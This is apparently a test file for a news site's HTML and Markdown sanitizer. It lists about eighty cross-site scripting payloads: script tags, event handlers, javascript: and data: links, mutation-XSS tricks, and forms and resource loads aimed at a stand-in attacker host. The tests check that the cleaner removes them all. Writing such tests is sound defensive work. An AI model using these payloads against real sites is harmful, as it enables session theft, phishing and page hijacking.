"""Cleaning: nothing in a text can run, load, pose as a part of the page or break it."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st

from helpers.dialect import marked_text
from newsdesk.render.clean import BLOCK_TAGS, INLINE_TAGS, clean, clean_raw
from newsdesk.render.markup import fill, read_body

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>alert(1)",
    "<img src=x onerror=alert(1)>",
    "<img src=//evil.example/pixel.gif srcset='//evil.example/2x 2x'>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><annotation-xml encoding='text/html'><img src onerror=alert(1)></annotation-xml></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<title><a title='</title><img src onerror=alert(1)>'>",
    "<textarea></p><script>alert(1)</script></textarea>",
    "<xmp><p title='</xmp><img src onerror=alert(1)>'></xmp>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=x.swf></object><embed src=x.swf><applet code=x>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example)}</style>",
    "<p style='background:url(//evil.example)'>x</p>",
    "<div style=position:fixed;top:0 class=site-header id=main>x</div>",
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video poster=//evil.example/p><source onerror=alert(1)></video><audio src=//evil.example/a autoplay>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' jAvAsCrIpT:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='java&Tab;script&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href=data:text/html;base64,PHNjcmlwdD4=>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a href=file:///etc/passwd>x</a>",
    "<a href=blob:https://x.example/1>x</a>",
    "<a href=//evil.example ping=//evil.example/p target=_top>x</a>",
    "<a id=location name=cookie>x</a><form id=document></form>",
    "<b onmouseover=alert(1)>x</b>",
    "<b/onclick=alert(1)>x</b>",
    "<q cite=javascript:alert(1)>x</q><blockquote cite=data:x>y</blockquote>",
    "<table background=//evil.example/x><td background=javascript:alert(1)>x</td></table>",
    "<ol start='1' type=javascript:x onclick=x><li value=1 onclick=alert(1)>x</li></ol>",
    "<template><script>alert(1)</script></template>",
    "<slot name=x></slot><x-y is=z onclick=alert(1)>x</x-y>",
    "<!--><img src onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='//evil.example'?><?php x ?>",
    "</article></main><h1>Not the headline</h1>",
    "</p></blockquote></div></body></html><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JavaScript&colon;alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x]: javascript:alert(1)\n\n[x] ![x]",
    "<javascript:alert(1)> <javascript://x.example/%0aalert(1)>",
    "![x](javascript:alert(1)) ![x](//evil.example/p.png 'onerror=alert(1)')",
    '![x" onerror="alert(1)](https://x.example/i.png)',
    '[x](https://x.example "><script>alert(1)</script>")',
    '[x](https://x.example/"onmouseover="alert(1))',
    'https://x.example/"onmouseover=alert(1)//',
    "`<script>alert(1)</script>`\n\n    <script>alert(1)</script>\n\n```\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> | <td onclick=alert(1)> |\n|---|---|\n| </table><img src=x> | x |",
    "x[^1]\n\n[^1]: <script>alert(1)</script> <img src=x onerror=alert(1)> </div>",
    '[^a"onclick=alert(1)]: x\n\n[^a"onclick=alert(1)]',
    "![<script>alert(1)</script> <img src=x>](photo:p1)",
    "READ: [<img src=x onerror=alert(1)>x](article:a)",
    "READ: <script>alert(1)</script> headline",
    "> x\n> -- <img src=x onerror=alert(1)> Lena",
    "\x02wzxhzdk:0\x03<b>\x02klzzwxh:0000\x03",
]
"""Texts that other programs have been caught by, and our own marks turned against us."""

ATTRIBUTES = {"href", "title", "lang", "dir", "datetime", "start", "colspan", "rowspan", "scope", "class"}
CLASSES = {"pull", "quote", "notes", "start", "center", "end"}


class Inspector(HTMLParser):
    """Fails on anything that must not stand on a page."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in INLINE_TAGS | BLOCK_TAGS
        for name, value in attrs:
            if name in ("id", "role"):
                assert (value or "").startswith(("fn-", "fnref-", "doc-"))
                continue
            assert name in ATTRIBUTES
            if name == "class":
                assert set((value or "").split()) <= CLASSES
            if name == "href":
                scheme = urlsplit(value or "").scheme
                assert scheme in {"http", "https", "mailto", "tel", "article"} or (value or "").startswith("#fn")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)


def inspect(html: str) -> None:
    """Fail on HTML that must not stand on a page."""
    inspector = Inspector(convert_charrefs=True)
    inspector.feed(html)
    inspector.close()


def whole(text: str) -> str:
    """A text's blocks with what their captions and headlines hold."""
    body = read_body(text, "en", frozenset({"READ"}))
    return fill(
        body,
        lambda _, caption: f"<p>{caption}</p>",
        lambda block: f"<p>{block.html}</p>",
        lambda block: "",  # noqa: ARG005
        lambda reference: f"https://x.example/{reference}",
    )


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("frame", ["{}", "x {} y", "<div>{}</div>", "> {}", "- *{}*"])
def test_hostile_text_is_harmless_wherever_it_stands(text: str, frame: str) -> None:
    inspect(whole(frame.replace("{}", text)))


@pytest.mark.parametrize("html", HOSTILE)
@pytest.mark.parametrize("cleaner", [clean, clean_raw])
def test_hostile_html_is_clean_at_once(html: str, cleaner: type[str]) -> None:
    cleaned = cleaner(html)
    inspect(cleaned)
    assert cleaner(cleaned) == cleaned


@given(st.one_of(marked_text, st.text(), st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=3).map("".join)))
def test_cleaning_twice_changes_nothing(html: str) -> None:
    html = html.encode("utf-8", "replace").decode()
    for cleaner in (clean, clean_raw):
        assert cleaner(cleaner(html)) == cleaner(html)


@given(st.lists(st.sampled_from(HOSTILE), min_size=2, max_size=4), st.sampled_from(["", " ", "\n", "\n\n"]))
def test_hostile_texts_together_are_harmless(texts: list[str], between: str) -> None:
    inspect(whole(between.join(texts)))


@pytest.mark.parametrize(
    ("html", "cleaned"),
    [
        (
            '<a href="https://x.example/a b{c}%zz%20">x</a>',
            '<a href="https://x.example/a%20b%7Bc%7D%25zz%20">x</a>',
        ),
        ('<a href="/x">x</a> <a>y</a>', "x y"),
        ('<a href="article:a b">x</a>', '<a href="article:a b">x</a>'),
        (
            '<a href="#fn-1" role="doc-noteref" id="fnref-1">1</a>',
            '<a href="#fn-1" role="doc-noteref" id="fnref-1">1</a>',
        ),
        ('<li id="location">x</li>', "<li>x</li>"),
        ('<span lang="not a language" dir="up">x</span>', "<span>x</span>"),
        (
            '<ins datetime="2026-01-02">x</ins><ins datetime="now">y</ins>',
            '<ins datetime="2026-01-02">x</ins><ins>y</ins>',
        ),
        ('<blockquote class="pull site">x</blockquote>', '<blockquote class="pull">x</blockquote>'),
        ('<td class="notes">x</td>', "x"),
    ],
)
def test_what_stays_and_what_goes(html: str, cleaned: str) -> None:
    assert clean(html) == cleaned
